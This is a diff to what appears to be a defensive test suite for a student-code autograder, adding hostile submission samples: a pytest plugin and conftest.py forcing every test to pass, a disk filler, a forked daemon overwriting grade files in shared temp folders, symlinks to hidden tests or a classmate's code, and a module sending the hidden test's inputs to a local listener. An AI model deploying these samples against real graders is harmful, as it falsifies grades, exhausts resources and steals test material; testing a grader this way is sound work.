@@ -81,6 +81,16 @@ def _hidden_files():
 PERFECT = {"score": 1000, "tests": [{"name": "test_demo.py::test_add", "score": 1000, "max_score": 2}]}
 """
 
+# A pytest plugin that passes every test: a submission's own configuration must never load it.
+PASS_ALL_PLUGIN = """
+import pytest
+@pytest.hookimpl(wrapper=True)
+def pytest_runtest_makereport(item, call):
+    report = yield
+    report.outcome = "passed"
+    return report
+"""
+
 HOSTILE = {
     # Writes a perfect results.json wherever the grader's command line says results go, then leaves.
     "writes_results": RECON + """
@@ -239,10 +249,102 @@ def add(a, b):
 def mul(a, b):
     return a * b
 """,
+    # Fills every folder it may write to with files the size of its file cap, and leaves them there.
+    "disk_filler": WRONG + """
+import os
+for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
+    for i in range(200):
+        try:
+            with open(os.path.join(folder, f"minidb-filler-{os.getpid()}-{i}"), "wb") as f:
+                f.write(b"x" * (8 << 20))
+        except OSError:
+            break
+""",
+    # Leaves a conftest.py that passes every test, and a pytest.ini, in every folder it may write to (the grader's
+    # temp folder first), for the grading runs after it; and a daemon that rewrites any grades file it can find.
+    "poisons_tmp": WRONG + f"\nPASS_ALL = {PASS_ALL_PLUGIN!r}\n" + '''
+import os, time
+for folder in {"/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.dirname(os.getcwd())}:
+    for name, text in (("conftest.py", PASS_ALL), ("pytest.ini", "[pytest]\\naddopts = -p no:minidb\\n")):
+        try:
+            with open(os.path.join(folder, name), "w") as f:
+                f.write(text)
+        except OSError:
+            pass
+if os.fork() == 0:
+    os.setsid()
+    for _ in range(600):
+        for root in ("/tmp", "/var/tmp"):
+            for dirpath, _, files in os.walk(root):
+                for name in files:
+                    if name.endswith(".csv") or name == "results.json":
+                        try:
+                            with open(os.path.join(dirpath, name), "w") as f:
+                                f.write("student,total\\nzed,0\\n")
+                        except OSError:
+                            pass
+        time.sleep(0.2)
+    os._exit(0)
+''',
 }
 
 # Points a hostile submission earns honestly (by correct answers), by name; every other one earns 0.
-HONEST_POINTS = {"exits_in_hidden": 5}
+HONEST_POINTS = {"exits_in_hidden": 5, "phones_home": MAX_POINTS}
+
+
+
+class Link(str):
+    """A symbolic link to this target, in ``hostile_folders``."""
+
+
+def hostile_folders(classmate: Path, hidden: Path, port: int) -> dict[str, dict[str, str]]:
+    """The attacks that are a folder (file name -> text, or a ``Link``), given a classmate's submission file, the
+    instructor's hidden test and a port listening on this machine."""
+    indented_wrong = WRONG.replace("\n", "\n    ")
+    return {
+        # Its own pytest configuration and plugin, beside a wrong module: they must configure nothing.
+        "configures_pytest": {
+            "demo.py": WRONG,
+            "pytest.ini": "[pytest]\npythonpath = .\naddopts = -p evil_plugin\n",
+            "evil_plugin.py": PASS_ALL_PLUGIN,
+            "conftest.py": PASS_ALL_PLUGIN,
+        },
+        # A right module with a link to the hidden test beside it: a root copy would hand the test to the student.
+        "links_hidden": {"demo.py": GOOD, "notes.txt": Link(str(hidden))},
+        # Its module is a link to a classmate's.
+        "links_classmate": {"demo.py": Link(str(classmate))},
+        # Copies a classmate's module (the instructor's downloads are world-readable) and answers with it.
+        "copies_classmate": {"demo.py": f"try:\n    exec(open({str(classmate)!r}).read())\nexcept OSError:\n"
+                                        f"    {indented_wrong}\n"},
+        # Right answers, and every call's arguments sent to a listener on this machine (the hidden test's inputs).
+        "phones_home": {"demo.py": GOOD + f"""
+import socket
+def _send(what):
+    try:
+        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
+            s.sendall(repr(what).encode())
+    except OSError:
+        pass
+_send("imported")
+_add, _mul = add, mul
+def add(a, b):
+    _send(("add", a, b))
+    return _add(a, b)
+def mul(a, b):
+    _send(("mul", a, b))
+    return _mul(a, b)
+"""},
+    }
+
+
+def write_submission(folder: Path, files: dict[str, str]) -> None:
+    """Write a folder attack of ``hostile_folders`` into ``folder``."""
+    folder.mkdir(parents=True)
+    for name, text in files.items():
+        if isinstance(text, Link):
+            (folder / name).symlink_to(text)
+        else:
+            (folder / name).write_text(text)
 
 
 def write_exercise(root: Path) -> Path:
